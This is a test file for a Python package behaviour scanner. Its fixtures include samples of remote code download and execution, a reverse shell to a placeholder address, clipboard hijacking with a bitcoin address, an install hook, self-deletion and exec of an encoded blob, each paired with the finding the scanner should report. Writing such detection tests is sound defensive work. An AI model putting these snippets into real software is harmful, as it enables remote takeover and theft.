import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, the source of `own.py` or all files, and the facts in the order they are found. */
const CASES: [string, string | Record<string, string>, string[]][] = [
  [
    'silent failure',
    `import os
try:
    os.system('print(1)')
except:
    pass`,
    ['own.py:2 import behaviour silent-failure'],
  ],
  [
    'silent failure of an exception class',
    `import urllib.request
try:
    exec(urllib.request.urlopen('http://a.invalid').read())
except Exception:
    pass`,
    ['own.py:2 import behaviour silent-failure'],
  ],
  [
    'a failure that is told',
    `import os
try:
    os.system('print(1)')
except Exception as error:
    print(error)`,
    [],
  ],
  [
    'nothing done in silence',
    `try:
    import fast
except Exception:
    pass`,
    [],
  ],
  [
    'removes itself',
    `import os
os.remove(__file__)`,
    ['own.py:2 import behaviour self-delete member:own.py'],
  ],
  [
    'removes itself by the command line',
    `import os, sys
os.unlink(sys.argv[0])`,
    ['own.py:2 import behaviour self-delete «sys.argv[0]»'],
  ],
  [
    'removes what a user names',
    `import os, sys
os.unlink(sys.argv[1])`,
    [],
  ],
  [
    'rewrites itself',
    `open(__file__, 'w').write('print(1)')`,
    ['own.py:1 import behaviour own-source-rewrite member:own.py'],
  ],
  [
    'guard by host name',
    `import os, socket
if socket.gethostname() == 'build':
    os.system('print(1)')`,
    ['own.py:2 import behaviour environment-guard socket.gethostname'],
  ],
  [
    'guard by user',
    `import os
if os.environ.get('USERNAME') == 'admin':
    os.system('print(1)')`,
    ['own.py:2 import behaviour environment-guard os.environ USERNAME'],
  ],
  [
    'guard by platform is none',
    `import os, sys
if sys.platform == 'win32':
    os.system('print(1)')`,
    [],
  ],
  [
    'endless loop',
    `import requests, time
while True:
    exec(requests.get('http://a.invalid').text)
    time.sleep(60)`,
    ['own.py:2 import behaviour endless-loop'],
  ],
  [
    'endless loop without effects',
    `while True:
    pass`,
    [],
  ],
  [
    'daemon thread',
    `import threading
threading.Thread(target=print, daemon=True).start()`,
    ['own.py:2 import behaviour daemon-thread threading.Thread'],
  ],
  [
    'output suppressed',
    `import subprocess
subprocess.Popen(['true'], stdout=subprocess.DEVNULL)`,
    ['own.py:2 import behaviour output-suppressed subprocess.Popen'],
  ],
  [
    'window hidden',
    `import subprocess
subprocess.Popen(['true'], creationflags=0x08000000)`,
    ['own.py:2 import behaviour output-suppressed subprocess.Popen'],
  ],
  [
    'install hook',
    {
      'setup.py': `import os
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        install.run(self)
        os.system('print(1)')
setup(name='own', cmdclass={'install': Post})`,
    },
    ['setup.py:5 install behaviour install-hook Post'],
  ],
  [
    'install command without effects',
    {
      'setup.py': `from setuptools import setup
from setuptools.command.install import install
class Post(install):
    def run(self):
        install.run(self)
setup(name='own', cmdclass={'install': Post})`,
    },
    [],
  ],
  [
    'hook in builtins',
    `import builtins
builtins.open = lambda *args: None`,
    [
      'own.py:2 import behaviour hook-installed builtins.open',
      'own.py:2 import behaviour function-replaced builtins.open by <lambda>',
    ],
  ],
  [
    'hook of imports',
    `import sys
class Finder:
    def find_spec(self, name, path, target=None):
        return None
sys.meta_path.insert(0, Finder())`,
    ['own.py:5 import behaviour hook-installed sys.meta_path'],
  ],
  [
    'runs own file',
    {
      'own/__init__.py': `import os, subprocess
subprocess.Popen([os.path.join(os.path.dirname(__file__), 'tool.bin')])`,
      'own/tool.bin': 'MZ',
    },
    ['own/__init__.py:2 import behaviour runs-own-file own/tool.bin'],
  ],
  [
    'address replaced',
    `import pyperclip
pyperclip.copy('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')`,
    ['own.py:2 import behaviour address-replaced bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
  ],
  [
    'socket to shell',
    `import os, socket
link = socket.socket()
link.connect(('192.0.2.1', 4444))
os.dup2(link.fileno(), 0)`,
    ['own.py:4 import behaviour socket-to-shell os.dup2'],
  ],
  [
    'opaque text to code',
    `import example_codec
exec(example_codec.turn('q9Zk2LmX7vT4bR8nY1cW6hJ3fD5gS0aPqE2uI7oK4lM9zX1vB6nQ8wR3tY5yU0iO2pA7sD4fG9hJ1kL6zX8cV3bN5mQ0wE2rT7yU4iO9pA1sD6fG8hJ3kL5zX0cV2bN7mQ4wE9rT1yU6iO8pA3sD5fG0hJ2kL7zX4cV9bN1mQ6wE8rT3yU5iO0pA2sD7fG4hJ9kL1zX6cV8bN3mQ5wE0rT2y'))`,
    ['own.py:2 import behaviour blob-to-code builtins.exec'],
  ],
];

describe('behaviours', () => {
  for (const [name, files, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(files), 'behaviour'), expected));
  }
});
